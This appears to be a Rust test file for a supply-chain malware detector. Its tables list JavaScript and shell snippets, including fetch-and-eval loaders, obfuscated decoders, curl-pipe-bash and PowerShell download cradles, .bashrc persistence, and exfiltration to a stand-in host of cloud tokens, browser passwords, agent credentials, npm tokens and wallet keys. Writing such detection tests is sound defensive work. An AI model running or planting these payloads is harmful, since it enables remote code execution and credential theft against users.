//! Chains beyond secrets in library calls: what is fetched or decoded and run, what the host tells,
//! what shell text does.

use weir_model::contents::{SinkKind, SourceKind};

use super::{installed, run};

use SinkKind::{
    Dns, DynamicCode, Http, NetworkCommand, OtherPackage, Persistence, Process, ProgramFile,
};
use SourceKind::{
    Clipboard, CloudMetadata, CredentialFile, CredentialTool, Decoded, Fetched, HostFacts,
    KeyArgument, ProcessMemory, WalletOrProfile,
};

/// What it does, source, sink, code of `index.js`.
const CHAINS: &[(&str, SourceKind, SinkKind, &str)] = &[
    (
        "evaluates what it fetched, by a name for it",
        Fetched,
        DynamicCode,
        "fetch('https://a.invalid').then(r => r.text()).then(t => (0, eval)(t))",
    ),
    (
        "makes a function of what it fetched, by a name that is put together",
        Fetched,
        DynamicCode,
        "fetch('https://a.invalid').then(r => r.text()).then(t => Reflect['con' + 'struct'](Function, [t])())",
    ),
    (
        "has a page run what it fetched, as a blob",
        Fetched,
        DynamicCode,
        "async function load() { const r = await fetch('https://a.invalid'); const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([await r.text()], { type: 'text/javascript' })); document.head.append(s); } load()",
    ),
    (
        "evaluates what only the name of the machine decodes",
        Decoded,
        DynamicCode,
        "const key = require('os').hostname(); const bytes = Buffer.from('DhMXHhFaUltbWxxbXBxbWg==', 'base64'); const text = [...bytes].map((byte, at) => String.fromCharCode(byte ^ key.charCodeAt(at % key.length))).join(''); if (text.startsWith('fetch')) (0, eval)(text);",
    ),
    (
        "evaluates bytes that are selectors of variants, written out",
        Decoded,
        DynamicCode,
        "const lines = ['a\\u{E0156}\\u{E0155}\\u{E0164}']; const bytes = [...lines.join('')].map((c) => c.codePointAt(0)).filter((p) => p > 255).map((p) => p - 917760 + 16); eval(Buffer.from(bytes).toString());",
    ),
    (
        "replaces a method of another package's wallet, and sends the key in it",
        KeyArgument,
        Http,
        "const other = require('other-wallet'); const real = other.Wallet.prototype.sign; other.Wallet.prototype.sign = function (text) { fetch('https://a.invalid/', { method: 'POST', body: this.privateKey }); return real.call(this, text); };",
    ),
    (
        "registers hooks of modules whose address is decoded",
        Decoded,
        DynamicCode,
        "const { register } = require('module'); const code = Buffer.from('ZXhwb3J0', 'base64').toString(); register(atob('ZGF0YTp0ZXh0L2phdmFzY3JpcHQs') + encodeURIComponent(code))",
    ),
    (
        "evaluates what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))",
    ),
    (
        "makes a function of what it fetched",
        Fetched,
        DynamicCode,
        "const axios = require('axios'); (async () => { const r = await axios.get('https://a.invalid'); new Function('require', r.data)(require) })()",
    ),
    (
        "evaluates a response of Node's client",
        Fetched,
        DynamicCode,
        "require('https').get('https://a.invalid', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)) })",
    ),
    (
        "runs what it fetched as a command",
        Fetched,
        Process,
        "const cp = require('child_process'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.exec(t))",
    ),
    (
        "evaluates in a vm what it fetched, across functions",
        Fetched,
        DynamicCode,
        "const vm = require('vm'); async function get(u) { const r = await fetch(u); return r.text() } async function go() { const code = await get('https://a.invalid'); vm.runInThisContext(code) } go()",
    ),
    (
        "compiles what it fetched as a module",
        Fetched,
        DynamicCode,
        "const M = require('module'); fetch('https://a.invalid').then(r => r.text()).then(t => { const m = new M('x'); m._compile(t, 'x') })",
    ),
    (
        "starts a worker of what it fetched",
        Fetched,
        DynamicCode,
        "const { Worker } = require('worker_threads'); fetch('https://a.invalid').then(r => r.text()).then(t => new Worker(t, { eval: true }))",
    ),
    (
        "joins what it fetched into a line for a shell",
        Fetched,
        Process,
        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.exec(path.join(t, 'tool')))",
    ),
    (
        "the same where a shell is asked for",
        Fetched,
        Process,
        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.spawn('sh', ['-c', path.join(t, 'tool')]))",
    ),
    (
        "starts the program that it was told of",
        Fetched,
        Process,
        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.spawn(path.join('/usr/bin', t)))",
    ),
    (
        "decodes and evaluates",
        Decoded,
        DynamicCode,
        "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())",
    ),
    (
        "gets the decoder and the maker of code from one function, by name",
        Decoded,
        DynamicCode,
        "const get = (space, name) => name ? globalThis[space][name] : globalThis[space]; const decode = get('atob'), make = get('Function'), keys = get('Object', 'keys'); make(decode(require('fs').readFileSync('data.txt', 'utf8')))(keys)",
    ),
    (
        "gets both from one function, by names out of a table",
        Decoded,
        DynamicCode,
        "const get = name => globalThis[name]; const names = { a: 'atob', f: 'Function' }; const decode = get(names.a), make = get(names['f']); make(decode(require('fs').readFileSync('data.txt', 'utf8')))()",
    ),
    (
        "decodes and evaluates by atob and Function",
        Decoded,
        DynamicCode,
        "const b = 'YWxlcnQoMSk='; new Function(atob(b))()",
    ),
    (
        "unpacks and evaluates",
        Decoded,
        DynamicCode,
        "const z = require('zlib'); eval(z.gunzipSync(data).toString())",
    ),
    (
        "decrypts and evaluates",
        Decoded,
        DynamicCode,
        "const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', k, v); eval(d.update(x, 'hex', 'utf8') + d.final('utf8'))",
    ),
    (
        "decodes and runs",
        Decoded,
        Process,
        "require('child_process').execSync(Buffer.from('bHM=', 'base64').toString())",
    ),
    (
        "downloads and starts",
        Fetched,
        ProgramFile,
        "const fs = require('fs'), cp = require('child_process'); fetch('https://a.invalid/x').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/x.bin', Buffer.from(b)); fs.chmodSync('/tmp/x.bin', 0o755); cp.spawn('/tmp/x.bin') })",
    ),
    (
        "pipes a download into a program",
        Fetched,
        ProgramFile,
        "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path'); const p = path.join(os.tmpdir(), 'x'); require('https').get('https://a.invalid/x', res => { res.pipe(fs.createWriteStream(p)).on('finish', () => cp.exec(p)) })",
    ),
    (
        "puts what it fetched into a start-up file",
        Fetched,
        Persistence,
        "const fs = require('fs'), os = require('os'); fetch('https://a.invalid').then(r => r.text()).then(t => fs.appendFileSync(os.homedir() + '/.bashrc', t))",
    ),
    (
        "puts what it fetched into another package",
        Fetched,
        OtherPackage,
        "const fs = require('fs'); fetch('https://a.invalid').then(r => r.text()).then(t => fs.writeFileSync('node_modules/ethers/index.js', t))",
    ),
    (
        "looks up the host's name",
        HostFacts,
        Dns,
        "require('dns').lookup(require('os').hostname() + '.a.invalid', () => {})",
    ),
    (
        "posts who the user is",
        HostFacts,
        Http,
        "const os = require('os'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ u: os.userInfo().username }) })",
    ),
    (
        "posts the clipboard",
        Clipboard,
        Http,
        "navigator.clipboard.readText().then(t => fetch('https://a.invalid', { method: 'POST', body: t }))",
    ),
    (
        "asks the cloud and tells another",
        CloudMetadata,
        Http,
        "fetch('http://169.254.169.254/latest/meta-data/iam/').then(r => r.text()).then(t => fetch('https://a.invalid', { method: 'POST', body: t }))",
    ),
    (
        "reads a service account",
        CloudMetadata,
        Http,
        "fetch('https://a.invalid', { body: require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token') })",
    ),
    (
        "reads the runner's memory",
        ProcessMemory,
        Http,
        "const fs = require('fs'); function f(pid) { fetch('https://a.invalid', { body: fs.readFileSync(`/proc/${pid}/mem`) }) }",
    ),
    (
        "sends a browser's passwords",
        WalletOrProfile,
        Http,
        "const os = require('os'); fetch('https://a.invalid', { body: require('fs').readFileSync(os.homedir() + '/.config/google-chrome/Default/Login Data') })",
    ),
    (
        "sends an agent's login",
        CredentialFile,
        Http,
        "const os = require('os'); fetch('https://a.invalid', { body: require('fs').readFileSync(os.homedir() + '/.claude/.credentials.json') })",
    ),
    (
        "sends what npm config says",
        CredentialTool,
        Http,
        "const t = require('child_process').execSync('npm config get //registry.example.invalid/:_authToken'); fetch('https://a.invalid', { body: t })",
    ),
    (
        "sends the key it was given",
        KeyArgument,
        Http,
        "exports.sign = function (privateKey, tx) { fetch('https://a.invalid', { method: 'POST', headers: { 'x-trace': privateKey } }); return tx }",
    ),
    (
        "sends the words it was given, through a helper",
        KeyArgument,
        Http,
        "function check(m) { require('https').get('https://a.invalid/?' + encodeURIComponent(m)) } exports.fromMnemonic = mnemonic => { check(mnemonic) }",
    ),
    (
        "runs a download by curl",
        Fetched,
        Process,
        "require('child_process').exec('curl -sL https://a.invalid/x.sh | bash')",
    ),
];

#[test]
fn chains_are_seen() {
    let mut wrong = String::new();
    for (says, source, sink, code) in CHAINS {
        let facts = installed(&[("index.js", code)]);
        if !facts
            .flows
            .iter()
            .any(|flow| flow.source == *source && flow.sink == *sink)
        {
            wrong.push_str(&format!("{says}: {:?}\n", facts.flows));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn what_goes_nowhere_is_no_chain() {
    for (says, code) in [
        (
            "parses what it fetched",
            "fetch('https://a.invalid').then(r => r.json()).then(j => console.log(j.version))",
        ),
        (
            "sends the key that its own client was made with",
            "function Client(options) { this.privateKey = options.key; } Client.prototype.send = function (text) { return fetch('https://api.example/', { method: 'POST', body: this.privateKey + text }); }; module.exports = Client;",
        ),
        (
            "replaces a method of another package, and counts its calls",
            "const other = require('other-wallet'); const real = other.Wallet.prototype.sign; other.Wallet.prototype.sign = function (text) { fetch('https://a.invalid/', { method: 'POST', body: 'sign' }); return real.call(this, text); };",
        ),
        (
            "shows an image that it fetched",
            "fetch('https://a.invalid/x.png').then(r => r.arrayBuffer()).then(b => { const i = document.createElement('img'); i.src = URL.createObjectURL(new Blob([b], { type: 'image/png' })); })",
        ),
        (
            "starts a worker that a bundler keeps as text",
            "const code = atob('c2VsZi5vbm1lc3NhZ2U9KCk9Pnt9'); module.exports = () => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));",
        ),
        (
            "evaluates a piece of what it is given, where a module of WebAssembly says",
            "const bytes = Buffer.from('AGFzbQEAAAA=', 'base64'); let wasm; const ready = WebAssembly.compile(bytes).then(WebAssembly.instantiate).then(({ exports }) => { wasm = exports; }); exports.parse = (text) => { const piece = text.slice(wasm.start(), wasm.end()); return (0, eval)(piece); };",
        ),
        (
            "decodes an image",
            "const png = Buffer.from('iVBORw0KGgo=', 'base64'); require('fs').writeFileSync('x.png', png)",
        ),
        (
            "downloads a file that nothing starts",
            "const fs = require('fs'); require('https').get('https://a.invalid/x', r => r.pipe(fs.createWriteStream('data.json')))",
        ),
        (
            "signs with the key it was given",
            "const { sign } = require('signer'); exports.send = (privateKey, tx) => fetch('https://a.invalid', { method: 'POST', body: sign(privateKey, tx) })",
        ),
        (
            "prints the host's name",
            "console.log(require('os').hostname())",
        ),
        (
            "compiles a template",
            "exports.compile = text => new Function('data', text)",
        ),
        (
            "compares the clipboard",
            "navigator.clipboard.readText().then(t => t === 'x')",
        ),
    ] {
        let facts = installed(&[("index.js", code)]);
        assert!(facts.flows.is_empty(), "{says}: {:?}", facts.flows);
    }
}

#[test]
fn shell_text_that_runs_what_it_fetched_is_a_chain() {
    for (command, source, sink) in [
        ("curl -fsSL https://a.invalid/i.sh | sh", Fetched, Process),
        (
            "wget -qO- https://a.invalid/i.sh | sudo bash -s",
            Fetched,
            Process,
        ),
        ("bash <(curl -s https://a.invalid/i.sh)", Fetched, Process),
        (
            "sh -c \"$(curl -fsSL https://a.invalid/i.sh)\"",
            Fetched,
            Process,
        ),
        ("eval \"$(wget -qO- https://a.invalid)\"", Fetched, Process),
        (
            "curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x",
            Fetched,
            ProgramFile,
        ),
        ("wget https://a.invalid/run.sh; sh run.sh", Fetched, Process),
        (
            "curl https://a.invalid/x -o x.js; node x.js",
            Fetched,
            Process,
        ),
        ("echo bHM= | base64 -d | sh", Decoded, Process),
        (
            "echo bHM= | openssl enc -d -aes-256-cbc | bash",
            Decoded,
            Process,
        ),
        (
            "powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')\"",
            Fetched,
            Process,
        ),
        (
            "powershell -c \"iwr https://a.invalid/x.ps1 | iex\"",
            Fetched,
            Process,
        ),
        ("powershell -nop -w hidden -enc SQBFAFgA", Decoded, Process),
        (
            "certutil -urlcache -f https://a.invalid/x.exe x.exe && start x.exe",
            Fetched,
            Process,
        ),
        ("nslookup $(hostname).a.invalid", HostFacts, Dns),
        (
            "curl -d \"$(whoami)\" https://a.invalid",
            HostFacts,
            NetworkCommand,
        ),
    ] {
        let facts = run(&[], &[command], &[]);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| flow.source == source && flow.sink == sink),
            "{command}: {:?}",
            facts.flows
        );
    }
    for command in [
        "curl -fsSL https://a.invalid/x.tgz | tar xz",
        "curl -o data.json https://a.invalid/data.json && node build.js",
        "echo bHM= | base64 -d > x.txt",
        "cat x.sh | sh",
        "curl https://a.invalid/v.json | node -p 'JSON.parse(require(`fs`).readFileSync(0)).version'",
        "powershell -Command \"Get-ChildItem\"",
        "hostname",
    ] {
        let facts = run(&[], &[command], &[]);
        assert!(facts.flows.is_empty(), "{command}: {:?}", facts.flows);
    }
}
